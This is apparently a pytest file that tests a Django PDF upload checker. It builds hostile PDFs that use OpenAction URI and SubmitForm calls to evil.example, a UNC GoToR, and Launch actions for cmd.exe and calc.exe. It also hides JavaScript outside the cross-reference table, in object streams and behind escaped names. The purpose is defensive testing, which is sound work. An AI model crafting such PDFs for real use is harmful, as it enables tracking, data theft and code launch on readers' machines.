"""Uploaded PDFs: active content is refused wherever it hides, plain links stay allowed.

The hostile files are built here, byte by byte: objects the cross-reference table lists,
objects it does not list (found only by scanning the file), and objects packed in
compressed object streams.
"""

import binascii
import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from pypdf import PdfWriter
from pypdf.annotations import Link

from calls.models import Document
from calls.services.pdf_check import check_pdf
from tests.factories.calls import ApplicationFactory

pytestmark = pytest.mark.django_db

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"


def build_pdf(
    *, catalog: bytes = b"", page: bytes = b"", listed=(), hidden=(), first_hidden=None
) -> bytes:
    """A one-page PDF. ``listed`` objects (numbered from 4) are in the cross-reference
    table; ``hidden`` ones (numbered after them, or from ``first_hidden``) are written in
    the file but not listed: a reader that scans the file still finds them."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % page,
        *listed,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    number = first_hidden or len(objects) + 1
    for body in hidden:
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        number += 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def object_stream(members: dict[int, bytes], *, hex_too: bool = False) -> bytes:
    """An object stream (/Type/ObjStm) packing ``members``, Flate-compressed (and
    ASCII-hex encoded on top when ``hex_too``)."""
    header, body = b"", b""
    for number, member in members.items():
        header += b"%d %d " % (number, len(body))
        body += member + b" "
    data = zlib.compress(header + body)
    filters = b"/FlateDecode"
    if hex_too:
        data = binascii.hexlify(data) + b">"
        filters = b"[/ASCIIHexDecode/FlateDecode]"
    return b"<</Type/ObjStm/N %d/First %d/Filter%s/Length %d>>stream\n%s\nendstream" % (
        len(members),
        len(header),
        filters,
        len(data),
        data,
    )


def refusal(data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        check_pdf(data)
    [message] = caught.value.messages
    assert caught.value.error_list[0].code == "active_content"
    return message


def found_in(message: str) -> list[str]:
    prefix = "This PDF contains active content, which is not accepted: "
    assert message.startswith(prefix), message
    return message[len(prefix) :].split(". Save it")[0].split(", ")


HOSTILE = {
    "xfa-form": (
        build_pdf(
            catalog=b"/AcroForm<</Fields[]/XFA[(template)4 0 R]>>",
            listed=[b"<</Length 11>>stream\n<template/>\nendstream"],
        ),
        ["XFA"],
    ),
    "open-action-uri": (
        build_pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example/track)>>"),
        ["OpenAction (URI)"],
    ),
    "open-action-submit-form": (
        build_pdf(
            catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil.example/collect)>>>>"
        ),
        ["OpenAction (SubmitForm)", "SubmitForm"],
    ),
    "open-action-gotor-unc": (
        build_pdf(catalog=rb"/OpenAction<</S/GoToR/F(\\\\evil.example\\share\\x.pdf)/D[0/Fit]>>"),
        ["GoToR", "OpenAction (GoToR)"],
    ),
    "gotoe": (
        build_pdf(catalog=b"/OpenAction<</S/GoToE/T<</R/C/N(attached)>>>>"),
        ["GoToE", "OpenAction (GoToE)"],
    ),
    "import-data": (
        build_pdf(catalog=b"/OpenAction<</S/ImportData/F(values.fdf)>>"),
        ["ImportData", "OpenAction (ImportData)"],
    ),
    "launch-on-page-open": (
        build_pdf(page=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"),
        ["AA (Launch)", "Launch"],
    ),
    "rich-media": (
        build_pdf(
            page=b"/Annots[4 0 R]",
            listed=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>"],
        ),
        ["RichMedia"],
    ),
    "javascript-outside-the-xref": (
        build_pdf(hidden=[b"<</S/JavaScript/JS(app.alert(1))>>"]),
        ["JavaScript"],
    ),
    "open-action-to-an-unlisted-uri-action": (
        build_pdf(
            catalog=b"/OpenAction 9 0 R",
            hidden=[b"<</S/URI/URI(http://evil.example/)>>"],
            first_hidden=9,
        ),
        ["OpenAction (URI)"],
    ),
    "javascript-in-an-unlisted-object-stream": (
        build_pdf(hidden=[object_stream({9: b"<</S/JavaScript/JS(app.alert(1))>>"})]),
        ["JavaScript"],
    ),
    "escaped-name-in-an-object-stream": (
        build_pdf(hidden=[object_stream({9: b"<</S/J#61vaScript/J#53(x)>>"})]),
        ["JavaScript"],
    ),
    "launch-in-a-hex-and-flate-object-stream": (
        build_pdf(hidden=[object_stream({9: b"<</S/Launch/F(calc.exe)>>"}, hex_too=True)]),
        ["Launch"],
    ),
    "open-action-into-an-object-stream": (
        build_pdf(
            catalog=b"/OpenAction 9 0 R",
            hidden=[object_stream({9: b"<</S/SubmitForm/F(http://evil.example/)>>"})],
            first_hidden=10,
        ),
        ["OpenAction (SubmitForm)", "SubmitForm"],
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_pdf_is_refused_naming_what_was_found(name):
    data, expected = HOSTILE[name]

    assert found_in(refusal(data)) == expected


def writer_pdf(configure) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    configure(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_web_link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://arxiv.org/abs/1706.03762"))


BENIGN = {
    "web-link-annotation": build_pdf(
        page=b"/Annots[4 0 R]",
        listed=[
            b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]"
            b"/A<</S/URI/URI(https://doi.org/10.1038/nature14539)>>>>"
        ],
    ),
    "open-at-a-page": build_pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
    "open-with-goto": build_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/FitH 792]>>"),
    "pypdf-written-with-a-web-link": writer_pdf(with_web_link),
    "pypdf-compressed": writer_pdf(lambda writer: writer.compress_identical_objects()),
}


@pytest.mark.parametrize("name", BENIGN)
def test_plain_pdf_with_web_links_and_internal_jumps_is_accepted(name):
    check_pdf(BENIGN[name])  # no ValidationError


@pytest.mark.parametrize(
    ("language", "start"),
    [
        ("en", "This PDF contains active content, which is not accepted: OpenAction (URI)."),
        ("fr", "Ce PDF contient du contenu actif, qui n’est pas accepté\u00a0: OpenAction (URI)."),
    ],
)
def test_upload_page_names_what_was_found_in_the_applicants_language(client, language, start):
    application = ApplicationFactory()
    application.coordinator.language = language
    application.coordinator.save(update_fields=["language"])
    client.force_login(application.coordinator)
    data, _found = HOSTILE["open-action-uri"]

    with translation.override(language):
        response = client.post(
            reverse("calls:document_upload", args=[application.pk, "project"]),
            {"file": SimpleUploadedFile("p.pdf", data, content_type="application/pdf")},
            follow=True,
            HTTP_ACCEPT_LANGUAGE=language,
        )

    assert start in response.content.decode()
    assert not Document.objects.filter(application=application).exists()
